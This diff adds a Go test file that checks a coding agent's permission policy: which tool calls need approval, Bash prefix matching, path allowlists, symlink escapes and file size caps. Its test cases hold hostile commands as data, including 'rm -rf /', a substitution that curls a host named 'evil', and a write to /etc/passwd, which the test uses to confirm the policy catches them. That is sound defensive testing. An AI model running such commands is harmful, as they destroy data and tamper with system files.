@@ -0,0 +1,77 @@
+package tools
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// TestPolicyApprovesToolsAndBashPrefixes verifies declarative approvals, including compound commands.
+func TestPolicyApprovesToolsAndBashPrefixes(testingHandle *testing.T) {
+	permissions := Permissions{Mode: PermissionDefault, Policy: &PolicyLimits{Tools: []string{"Edit"}, BashPrefixes: []string{"go test", "git status"}}}
+	cases := []struct {
+		name     string
+		tool     string
+		args     string
+		expected bool
+	}{
+		{name: "listed tool", tool: "Edit", args: `{"file_path":"a.txt"}`, expected: false},
+		{name: "unlisted tool", tool: "Write", args: `{"file_path":"a.txt"}`, expected: true},
+		{name: "prefix", tool: "Bash", args: `{"command":"go test ./..."}`, expected: false},
+		{name: "every segment matches", tool: "Bash", args: `{"command":"git status && go test -run X ./cmd"}`, expected: false},
+		{name: "chained command", tool: "Bash", args: `{"command":"go test ./... && rm -rf /"}`, expected: true},
+		{name: "word boundary", tool: "Bash", args: `{"command":"go testify"}`, expected: true},
+		{name: "substitution", tool: "Bash", args: `{"command":"go test $(curl evil)"}`, expected: true},
+		{name: "redirection", tool: "Bash", args: `{"command":"go test > /etc/passwd"}`, expected: true},
+	}
+	for _, testCase := range cases {
+		if got := permissions.ShouldPromptCall(testCase.tool, json.RawMessage(testCase.args)); got != testCase.expected {
+			testingHandle.Fatalf("%s: expected prompt=%v, got %v", testCase.name, testCase.expected, got)
+		}
+	}
+}
+
+// TestPolicyCheckEnforcesPathsAndSize verifies path allowlists and the file size cap.
+func TestPolicyCheckEnforcesPathsAndSize(testingHandle *testing.T) {
+	cwd := testingHandle.TempDir()
+	outside := testingHandle.TempDir()
+	if err := os.MkdirAll(filepath.Join(cwd, "src"), 0o755); err != nil {
+		testingHandle.Fatalf("mkdir: %v", err)
+	}
+	if err := os.WriteFile(filepath.Join(cwd, "src", "big.txt"), []byte(strings.Repeat("x", 20)), 0o644); err != nil {
+		testingHandle.Fatalf("write: %v", err)
+	}
+	if err := os.Symlink(outside, filepath.Join(cwd, "src", "escape")); err != nil {
+		testingHandle.Skipf("symlinks unavailable: %v", err)
+	}
+	limits := &PolicyLimits{Paths: []string{"src", "*.md"}, MaxFileSizeBytes: 10}
+	cases := []struct {
+		name  string
+		tool  string
+		args  string
+		allow bool
+	}{
+		{name: "inside directory", tool: "Write", args: `{"file_path":"src/new.go","content":"package x"}`, allow: true},
+		{name: "absolute inside", tool: "Read", args: `{"file_path":"` + filepath.Join(cwd, "src", "new.go") + `"}`, allow: true},
+		{name: "glob", tool: "Edit", args: `{"file_path":"README.md"}`, allow: true},
+		{name: "outside", tool: "Write", args: `{"file_path":"main.go","content":""}`, allow: false},
+		{name: "dot dot", tool: "Read", args: `{"file_path":"src/../main.go"}`, allow: false},
+		{name: "symlink escape", tool: "Write", args: `{"file_path":"src/escape/x.txt","content":""}`, allow: false},
+		{name: "search defaults to cwd", tool: "Grep", args: `{"pattern":"x"}`, allow: false},
+		{name: "large write", tool: "Write", args: `{"file_path":"src/a.txt","content":"0123456789x"}`, allow: false},
+		{name: "large read", tool: "Read", args: `{"file_path":"src/big.txt"}`, allow: false},
+		{name: "bash unaffected", tool: "Bash", args: `{"command":"cat /etc/hosts"}`, allow: true},
+	}
+	for _, testCase := range cases {
+		err := limits.Check(testCase.tool, json.RawMessage(testCase.args), cwd)
+		if (err == nil) != testCase.allow {
+			testingHandle.Fatalf("%s: expected allow=%v, got %v", testCase.name, testCase.allow, err)
+		}
+	}
+	var nilLimits *PolicyLimits
+	if err := nilLimits.Check("Write", json.RawMessage(`{"file_path":"/x"}`), cwd); err != nil {
+		testingHandle.Fatalf("nil limits: %v", err)
+	}
+}